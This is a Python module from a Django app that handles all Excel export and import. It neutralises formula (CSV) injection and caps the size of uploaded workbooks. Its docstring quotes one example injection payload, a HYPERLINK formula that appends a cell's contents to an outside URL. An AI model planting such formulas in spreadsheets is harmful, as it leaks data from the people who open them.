"""The one Excel writer and reader of the app.

Every export (the record lists, the problems, the people, the annual report, the import
templates, Django admin's exports) writes its cells through :func:`cell`, which writes text as
text: a description that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
stored as a string marked with Excel's quote prefix, never as a formula, so that opening an
export never runs what somebody typed (``=HYPERLINK("http://…?d="&A2)``). Every import reads a
sheet through :func:`read_rows`. ``tests/kernel/test_workbook.py`` fails when a module outside
this one uses openpyxl.
"""

import datetime
import io
import re
import warnings
import zipfile
from decimal import Decimal

import openpyxl
from django.core.exceptions import ValidationError
from django.http import HttpResponse
from django.utils.translation import gettext as _
from import_export.formats.base_formats import XLSX as ImportExportXLSX
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: What a spreadsheet program reads as the start of a formula (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOLD = Font(bold=True)
TITLE = Font(bold=True, size=14)


def cell(sheet, value, *, font=None):
    """One cell of a write-only ``sheet``: numbers and dates as themselves, anything else as text.

    Text is always a string cell (openpyxl would make a formula of any text that begins with
    "="), with the quote prefix where a spreadsheet would read a formula, so that it stays text
    when somebody edits the cell; characters a workbook cannot hold become "�".
    """
    if isinstance(value, bool) or not isinstance(value, (int, float, Decimal, datetime.date)):
        value = "" if value is None else ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", str(value))
    written = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        written.data_type = "s"
        if value.startswith(FORMULA_STARTS):
            written.quotePrefix = True
    if font is not None:
        written.font = font
    return written


def sheet_title(text):
    """Excel refuses some characters in sheet names and more than 31 of them."""
    return re.sub(r"[\[\]:*?/\\]", "、", str(text))[:31]


class Sheet:
    def __init__(self, sheet):
        self.sheet = sheet

    def row(self, values, *, font=None):
        self.sheet.append([cell(self.sheet, value, font=font) for value in values])

    def title(self, text):
        """A sheet's title line, large and bold."""
        self.row([text], font=TITLE)

    def header(self, labels):
        """The header row: the labels (lazy ones made text) in bold."""
        self.row([str(label) for label in labels], font=BOLD)

    def widths(self, widths):
        for index, width in enumerate(widths, start=1):
            if width:
                self.sheet.column_dimensions[get_column_letter(index)].width = width

    def freeze_header(self):
        self.sheet.freeze_panes = "A2"


class Book:
    """A workbook written row by row (openpyxl's write-only mode: a province's sheets stay small
    in memory)."""

    def __init__(self):
        self.book = openpyxl.Workbook(write_only=True)

    def sheet(self, title, *, headers=None, widths=None):
        sheet = Sheet(self.book.create_sheet(title=sheet_title(title)))
        if widths is None and headers is not None:
            widths = [min(max(12, 2 * len(str(header)) + 4), 40) for header in headers]
        if widths:
            sheet.widths(widths)
        if headers is not None:
            sheet.freeze_header()
            sheet.header(headers)
        return sheet

    def content(self):
        output = io.BytesIO()
        self.book.save(output)
        return output.getvalue()


def response(content, file_name):
    return HttpResponse(
        content,
        content_type=XLSX_CONTENT_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{file_name}"'},
    )


# -- Reading ------------------------------------------------------------------------------------

MAX_UNPACKED_BYTES = 40 * 1024 * 1024
MAX_COLUMNS = 60
# Rows read from a sheet, empty ones included: beyond every import's own limit (20,000 rows of
# satisfaction tallies), and short of what a small file that declares a million rows would cost.
MAX_READ_ROWS = 50_000


def read_rows(data, *, max_unpacked=MAX_UNPACKED_BYTES, max_columns=MAX_COLUMNS, max_rows=MAX_READ_ROWS):
    """The rows of the first sheet of an .xlsx file's bytes, as tuples of values (a formula's
    last computed value, never the formula); ValidationError with a message for the user.

    Every row counts towards ``max_rows``, the empty ones too: a file of a few kilobytes with
    one value a million rows down would otherwise be read row by row, every one of them."""
    not_xlsx = ValidationError(
        _("The file is not an Excel workbook (.xlsx). Save it from Excel as “Excel Workbook (*.xlsx)”."),
        code="not_xlsx",
    )
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            unpacked = sum(info.file_size for info in archive.infolist())
    except (zipfile.BadZipFile, ValueError, OSError):
        raise not_xlsx from None
    if unpacked > max_unpacked:
        raise ValidationError(_("The workbook is too large once unpacked."), code="too_large")
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            book = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True)
        try:
            sheet = book.worksheets[0]
            sheet.reset_dimensions()  # the size the file declares is not read: only its rows
            rows = []
            for row in sheet.iter_rows(max_col=max_columns, values_only=True):
                if len(rows) == max_rows:
                    raise TooManyRows
                rows.append(row)
            return rows
        finally:
            book.close()
    except TooManyRows:
        message = _("The sheet has more than %(limit)s rows, empty ones counted. Split it into smaller files.")
        raise ValidationError(message % {"limit": max_rows}, code="too_many_rows") from None
    except Exception:
        raise not_xlsx from None


class TooManyRows(Exception):
    pass


def cell_value(value):
    """A read cell's value without surrounding blanks; a whole number typed into Excel loses its .0."""
    if isinstance(value, str):
        return value.strip() or None
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


def check_columns(headers, expected):
    """The header row holds every expected column, each once; ValidationError otherwise."""
    missing = [column for column in expected if column not in headers]
    if missing:
        message = _(
            "The header row lacks the columns %(columns)s. "
            "Download the template to see the expected header row."
        )
        raise ValidationError(message % {"columns": "、".join(missing)}, code="missing_columns")
    repeated = [column for column in expected if headers.count(column) > 1]
    if repeated:
        message = _("The header row has the columns %(columns)s more than once.")
        raise ValidationError(message % {"columns": "、".join(repeated)}, code="repeated_columns")


class ExcelFormat(ImportExportXLSX):
    """Django admin's import and export (django-import-export) through this module: exports are
    written by :class:`Book`, imports read by :func:`read_rows`."""

    def export_data(self, dataset, **kwargs):
        book = Book()
        sheet = book.sheet(dataset.title or "Sheet1", headers=dataset.headers or None)
        for values in dataset:
            sheet.row(values)
        return book.content()

    def create_dataset(self, in_stream):
        import tablib

        rows = read_rows(in_stream)
        dataset = tablib.Dataset()
        if rows:
            dataset.headers = list(rows[0])
            for values in rows[1:]:
                dataset.append(list(values) + [None] * (len(rows[0]) - len(values)))
        return dataset
